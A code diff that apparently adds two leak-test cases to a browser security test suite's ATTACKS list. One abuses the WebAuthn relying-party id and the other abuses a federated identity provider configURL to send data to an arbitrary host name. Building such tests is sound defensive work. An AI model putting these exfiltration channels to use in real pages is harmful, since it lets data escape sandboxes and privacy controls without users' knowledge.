@@ -312,6 +312,30 @@ export const ATTACKS: readonly Attack[] = [
     },
   },
   {
+    id: "webauthn-foreign-name",
+    places: page,
+    seenBy: "name",
+    run({ name }) {
+      const challenge = new Uint8Array(16);
+      const user = { id: new Uint8Array(8), name: "a", displayName: "a" };
+      const pubKeyCredParams = [{ type: "public-key" as const, alg: -7 }];
+      const rp = { id: name, name: "a" };
+      navigator.credentials
+        .create({ publicKey: { challenge, rp, user, pubKeyCredParams, timeout: 1000 } })
+        .catch(() => {});
+    },
+  },
+  {
+    id: "identity-provider",
+    places: page,
+    seenBy: "name",
+    run({ name, text }) {
+      const provider = { configURL: `https://${name}/config.json`, clientId: text };
+      const request = { identity: { providers: [provider] }, mediation: "optional" as const };
+      navigator.credentials.get(request).catch(() => {});
+    },
+  },
+  {
     id: "popup",
     places: page,
     seenBy: "http",
